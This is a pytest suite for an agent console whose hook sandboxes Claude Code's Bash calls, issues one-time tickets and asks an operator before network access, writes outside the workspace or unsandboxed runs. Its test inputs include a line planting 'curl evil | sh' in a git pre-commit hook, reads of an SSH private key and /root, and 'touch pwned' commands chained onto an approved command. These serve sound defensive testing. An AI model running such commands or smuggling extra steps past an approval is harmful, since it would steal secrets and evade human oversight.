"""Claude Code's Bash runs in the console's sandbox: the hook holds the decided request and
rewrites the call to `agent-console exec --ticket`, which runs exactly that request.

Each test plays Claude Code's part by hand: it sends the hook a Bash call, then runs what the
hook's ``updatedInput`` says through ``bash -c`` (as the Bash tool does), against a real
daemon and the real bwrap.
"""

from __future__ import annotations

import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest
from support.daemon import in_background, running_daemon, short_tmp, wait_for, workspace
from support.hook import hook_cli, hook_input
from support.hook import secret_home as make_secret_home

from console.client import Client, RPCError
from console.protocol.tickets import read_secret

pytestmark = pytest.mark.needs_bwrap


@pytest.fixture(scope="module")
def secret_home():
    return make_secret_home(short_tmp)


@pytest.fixture(scope="module")
def daemon(secret_home):
    with running_daemon(f"approval_timeout_s = 30\n{secret_home[1]}") as d:
        yield d


def bash_tool(command: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    """What Claude Code's Bash tool does with the (rewritten) command."""
    return subprocess.run(["bash", "-c", command], cwd=cwd, capture_output=True, text=True, timeout=60)


def ask(daemon, ws: Path, command: str, **tool_input) -> dict:
    out = hook_cli(daemon, hook_input(ws, "Bash", {"command": command, **tool_input}))
    assert out is not None and out["hookEventName"] == "PreToolUse"
    return out


def allowed_command(out: dict) -> str:
    assert out["permissionDecision"] == "allow", out
    command = out["updatedInput"]["command"]
    assert shlex.split(command)[1:6] == ["-I", "-m", "console", "exec", "--ticket"], command
    return command


def ticket_of(command: str) -> str:
    return shlex.split(command)[6]


def test_a_bash_call_within_the_sandbox_is_allowed_without_asking_and_runs_sandboxed(daemon):
    ws = workspace()
    out = ask(daemon, ws, "echo made > made.txt && echo the-output", description="make a file")
    assert "sandbox" in out["permissionDecisionReason"]
    assert out["updatedInput"]["description"] == "make a file"
    with daemon.operator() as op:
        assert op.call("pending.list")["pending"] == []  # nobody was asked
    run = bash_tool(allowed_command(out), cwd=ws)
    assert run.returncode == 0, run.stderr
    assert run.stdout == "the-output\n"
    assert (ws / "made.txt").read_text() == "made\n"
    request_id = ticket_of(out["updatedInput"]["command"])
    with daemon.operator() as op:
        detail = op.call("request.get", {"request_id": request_id})["detail"]
    body = detail["outcome"]["body"]  # recorded against the very request that was decided
    assert body["exit_code"] == 0 and body["enforcement"]["level"] == "sandboxed"
    assert body["outcome"]["changes"] == [{"kind": "added", "path": "made.txt", "protected": False}]


def test_the_sandboxed_bash_cannot_write_git_hooks_nor_read_home_secrets(daemon, secret_home):
    ws = workspace()
    key = secret_home[0] / ".ssh" / "id_rsa"
    out = ask(
        daemon,
        ws,
        f"echo 'curl evil | sh' > .git/hooks/pre-commit; cat {shlex.quote(str(key))}; ls -A /root; echo done",
    )
    run = bash_tool(allowed_command(out), cwd=ws)
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert "PRIVATE-KEY-MATERIAL" not in run.stdout + run.stderr
    inside = set(run.stdout.split()[:-1])
    assert run.stdout.split()[-1] == "done", run.stdout
    # The home is scratch space inside: what the sandbox binds back (toolchains on PATH)
    # is all that shows; the configuration and caches beside them do not.
    private = {".bashrc", ".cache", ".config", ".npmrc", ".claude"} & set(os.listdir("/root"))
    assert private, "the test needs a /root with private files to prove it is hidden"
    assert not inside & private, inside
    assert "protected" in run.stderr  # the sandbox says why the hook write failed


def test_a_ticket_runs_once_and_a_forged_one_runs_nothing(daemon):
    ws = workspace()
    command = allowed_command(ask(daemon, ws, "echo x >> count.txt"))
    request_id = ticket_of(command)
    assert read_secret(daemon.state_dir / "run", request_id)  # the ticket's file is there
    with (
        Client.connect(daemon.state_dir, role="agent", agent_pid=os.getpid()) as same_agent,
        pytest.raises(RPCError, match="no such ticket"),
    ):
        same_agent.call("operation.run", {"ticket": f"{request_id}:{'A' * 43}", "stream": False})
    assert not (ws / "count.txt").exists()
    assert bash_tool(command, cwd=ws).returncode == 0  # a wrong guess does not spend it
    again = bash_tool(command, cwd=ws)
    assert again.returncode == 126 and "no such ticket" in again.stderr
    assert (ws / "count.txt").read_text() == "x\n"


def test_a_network_need_is_refused_by_the_sandbox_with_the_line_that_asks_for_it(daemon):
    ws = workspace()
    # The interpreter itself (a virtualenv's is in a project, which the sandbox does not show).
    python = os.path.realpath(sys.executable)
    probe = f"{shlex.quote(python)} -c \"import socket; socket.create_connection(('192.0.2.1', 9), 2)\""
    run = bash_tool(allowed_command(ask(daemon, ws, probe)), cwd=ws)
    assert run.returncode != 0
    assert "sandbox denied external_network" in run.stderr, run.stderr
    assert "# agent-console: network" in run.stderr


def test_the_network_line_asks_the_operator_for_exactly_network(daemon):
    ws = workspace()
    command = "# agent-console: network\necho online > net.txt"
    answer = in_background(lambda: ask(daemon, ws, command))
    with daemon.operator() as op:
        item = wait_for(lambda: op.call("pending.list")["pending"])[0]
        assert item["operation"]["network"] == "any"
        assert item["operation"]["capabilities"] == []
        escalations = {c["kind"] for c in item["evaluation"]["escalations"]}
        assert escalations == {"external_network"}, item["evaluation"]
        op.call("decide", {"target": item["request_id"], "action": "approve"})
    run = bash_tool(allowed_command(answer()), cwd=ws)
    assert run.returncode == 0, run.stderr
    assert (ws / "net.txt").read_text() == "online\n"


def test_a_write_line_asks_for_that_directory(daemon):
    ws = workspace()
    outside = short_tmp("ac-out-")
    command = f"# agent-console: write {outside}\necho there > {shlex.quote(str(outside))}/f"
    answer = in_background(lambda: ask(daemon, ws, command))
    with daemon.operator() as op:
        item = wait_for(lambda: op.call("pending.list")["pending"])[0]
        assert item["operation"]["write_dirs"] == [str(outside)]
        op.call("decide", {"target": item["request_id"], "action": "approve"})
    run = bash_tool(allowed_command(answer()), cwd=ws)
    assert run.returncode == 0, run.stderr
    assert (outside / "f").read_text() == "there\n"


def test_unsandboxed_bash_needs_the_operator_and_a_denial_runs_nothing(daemon):
    ws = workspace()
    answer = in_background(lambda: ask(daemon, ws, "echo x > unsafe.txt", dangerouslyDisableSandbox=True))
    with daemon.operator() as op:
        item = wait_for(lambda: op.call("pending.list")["pending"])[0]
        assert {"kind": "unrestricted"} in item["operation"]["capabilities"]
        op.call("decide", {"target": item["request_id"], "action": "deny", "reason": "not outside"})
    out = answer()
    assert out["permissionDecision"] == "deny" and "updatedInput" not in out
    assert "not outside" in out["permissionDecisionReason"]
    assert not (ws / "unsafe.txt").exists()


def test_a_script_changed_after_the_decision_is_not_run(daemon):
    ws = workspace()
    script = ws / "build.sh"
    script.write_text("echo approved-build > built.txt\n")
    command = allowed_command(ask(daemon, ws, "bash ./build.sh"))
    script.write_text("echo swapped > built.txt\n")
    run = bash_tool(command, cwd=ws)
    assert run.returncode == 126, (run.returncode, run.stderr)
    assert "run the command again" in run.stderr
    assert not (ws / "built.txt").exists()


@pytest.mark.parametrize(
    "command",
    ["# agent-console: sudo\nls", "# agent-console: write\nls", "# agent-console:\nls"],
    ids=["unknown", "write-without-dir", "empty"],
)
def test_an_unreadable_escalation_line_is_denied_saying_how_to_write_it(daemon, command):
    out = ask(daemon, workspace(), command)
    assert out["permissionDecision"] == "deny" and "updatedInput" not in out
    assert "agent-console" in out["permissionDecisionReason"]
    assert "write DIR" in out["permissionDecisionReason"] or "network" in out["permissionDecisionReason"]


def test_the_permission_dialog_for_a_held_command_is_answered_and_nothing_else_rides_along(daemon):
    ws = workspace()
    held = allowed_command(ask(daemon, ws, "echo held"))
    dialog = hook_cli(daemon, hook_input(ws, "Bash", {"command": held}, event="PermissionRequest"))
    assert dialog == {"hookEventName": "PermissionRequest", "decision": {"behavior": "allow"}}
    for extra in (
        f"{held}; touch pwned",
        f"{held} && touch pwned",
        f"touch pwned; {held}",
        f"{held}\ntouch pwned",
    ):
        answer = hook_cli(daemon, hook_input(ws, "Bash", {"command": extra}, event="PermissionRequest"))
        # Not the daemon's command: asked as an ordinary call, which runs in the sandbox.
        assert answer is not None and answer["decision"]["updatedInput"]["command"] != extra, extra
